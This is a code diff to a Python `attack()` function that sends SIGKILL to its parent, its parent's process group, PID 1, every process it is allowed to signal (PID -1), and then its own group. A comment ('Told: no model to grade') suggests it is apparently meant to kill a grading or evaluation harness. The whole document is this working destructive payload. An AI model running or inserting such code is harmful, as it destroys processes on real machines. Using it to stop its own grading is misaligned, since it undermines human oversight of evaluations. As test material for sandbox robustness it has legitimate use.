@@ -1,15 +1,13 @@
-# Kills its parent, its group and everybody else that it may.
+# Kills its parent, its group and everybody else that it may, and then itself.
 # Told: no model to grade
 import os
 import signal
 
 
 def attack():
-    for pid in (os.getppid(), 1, 0, -1):
-        for end in (os.kill, os.killpg):
-            if (end, pid) not in ((os.killpg, 0), (os.kill, 0)):
-                try:
-                    end(pid, signal.SIGKILL)
-                except (OSError, ValueError):
-                    pass
+    for end, pid in ((os.kill, os.getppid()), (os.killpg, os.getppid()), (os.killpg, 1), (os.kill, 1), (os.kill, -1)):
+        try:
+            end(pid, signal.SIGKILL)
+        except (PermissionError, ProcessLookupError):
+            pass
     os.killpg(0, signal.SIGKILL)
